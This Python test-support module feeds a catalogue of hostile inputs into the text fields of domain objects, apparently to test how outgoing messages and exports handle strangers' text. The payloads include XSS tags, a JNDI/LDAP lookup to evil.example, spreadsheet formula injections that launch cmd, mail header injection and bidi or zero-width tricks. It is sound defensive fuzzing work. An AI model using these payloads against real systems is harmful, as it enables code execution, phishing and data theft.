"""What might a stranger write, and how is it put wherever an example says something of a stranger's?"""

import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from itertools import cycle
from typing import Any

from domain.errors import Refusal

STRANGE = {
    "a channel mention": "<!channel> <!here> @channel",
    "a person mentioned": "<@U1> <#C1> <!subteam^S1> <at>Dana</at>",
    "a link in each dialect": "<https://evil.example|Approve> [Approve](https://evil.example) https://evil.example",
    "addresses nobody spelled out": "www.evil.example evil@evil.example mailto:evil@evil.example javascript:alert(1)",
    "a link by reference": "[Approve][1]\n\n[1]: https://evil.example",
    "markup": "*bold* _italic_ ~struck~ `code` ```block``` **b** __i__ # h",
    "lists and quotes": "- one\n> two\n1. three\n• four\n+ five\n1) six",
    "an emoji code": ":rotating_light: :tada::skin-tone-2:",
    "dates": "<!date^1392734382^{date}|x> {{DATE(2026-11-21T00:00:00Z)}} ${title}",
    "templates": "{0} {name!r} %(x)s %s {{7*7}} ${jndi:ldap://evil.example} <%= 1 %> {% raw %}",
    "HTML": "</td></table><script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt; \"'",
    "HTML that breaks out": "\"><svg/onload=alert(1)>' autofocus onfocus=alert(1) x='--><!--]]><style>*{}</style>",
    "a text field's end": "</textarea></title></style><input name=do value=approve:x:1><form action=//evil.example>",
    "entities": "&#60;script&#62; &amp;lt; &NewLine; &colon;",
    "control characters": "a\x00b\x07c\x08d\x7fe\x85f\x9bg\r\nh\vi\fj",
    "terminal escapes": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m \x1b[2J",
    "half a surrogate pair": "d\ud800e \udfff",
    "direction marks": "10 \u202e61\u202c \u2067x\u2069 \u200f \u2066 \u061c",
    "zero-width signs": "app\u200brove\u2060 \ufeff\u00ad\u180e\u2063",
    "emoji": "👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣ 😀",
    "private and unassigned signs": "\ue000 \U000f0000 \uffff \U0010ffff \ufdd0",
    "marks on marks": "Z" + "\u0301\u0489" * 60,
    "a formula": '=HYPERLINK("https://evil.example","x")',
    "a formula after a plus": "+1+cmd|' /C calc'!A0",
    "a formula after a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula after an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula after a tab": "\t=1+1",
    "a formula after a line break": "x\r=1+1\n=2",
    "a formula in a later cell": "x;=1+1,=2\t=3",
    "a log line": 'x\n2026-11-22T10:00:00Z [info     ] approved   change=1\r{"event":"approved"}',
    "a mail's header": "Hello\r\nBcc: evil@evil.example\r\n\r\nbody =?utf-8?q?evil?=",
    "words encoded for a mail": "=?utf-8?q?Evil=2C_=3Cevil=40evil.example=3E=2C?= =?utf-8?q?a=0D=0ABcc:_e@evil.example?=",
    "line separators": "one\u2028two\u2029three\x1cfour\x1dfive\x85six",
    "a token": "approve:chg-1042:1",
    "JSON": '"}],"actions":[{"type":"Action.OpenUrl","url":"https://evil.example"}]',
    "commas and percents": "a,b%2Cc|d/e\\f",
    "many lines": "line\n" * 300,
    "two thousand signs to be escaped": "<&>*" * 500,
    "one word without an end": "W" * 2_000,
    "nothing to see": "\u200b\u2060 \t\n",
    "nothing": "",
}
LARGE = {
    "100 kB of letters": "Ünïcode " * 12_500,
    "100 kB of signs to be escaped": "<&>*" * 25_000,
    "100 kB of wide signs": "😀" * 25_000,
    "100 kB of one word": "W" * 100_000,
    "100 kB of lines": "line\n" * 20_000,
}
PLAIN = "Alder"
"""What a stranger writes who means no harm."""

OURS = frozenset(
    {
        "id",
        "listing",
        "client_id",
        "zone",
        "currency",
        "picture",
        "file",
        "url",
        "link",
        "place",
        "offer",
        "kind",
        "refresh_for",
    }
)
"""Fields that are text, and never a stranger's: ids that go into tokens, settings, addresses of our own."""

_ID = re.compile(r"\b(?!Mid)\w*Id\b")


def strange(example: Any, *texts: str) -> Any:
    """The same example, which says these texts in turn wherever it says something that is not our own."""
    return _strange(example, cycle(texts))


def _strange(thing: Any, texts: Iterator[str]) -> Any:
    match thing:
        case Enum():
            return _open(thing, texts)
        case str():
            return next(texts)
        case Refusal() if is_dataclass(thing):
            return type(thing)(**_fields(thing, texts))
        case tuple():
            return tuple(_strange(each, texts) for each in thing)
        case Mapping():
            return {next(texts): _strange(each, texts) for each in thing.values()}
    if is_dataclass(thing) and not isinstance(thing, type):
        return replace(thing, **_fields(thing, texts))
    return thing


def _open(thing: Enum, texts: Iterator[str]) -> Any:
    """Some of Pax8's lists take words that nobody has heard of."""
    kind: Callable[[str], Any] = type(thing)
    try:
        return kind(next(texts) or "Unknown")
    except ValueError:
        return thing


def _fields(thing: Any, texts: Iterator[str]) -> dict[str, Any]:
    told = {f.name: (str(f.type), getattr(thing, f.name)) for f in fields(thing)}
    return {
        name: value if name in OURS or _ID.search(kind) else _strange(value, texts)
        for name, (kind, value) in told.items()
    }
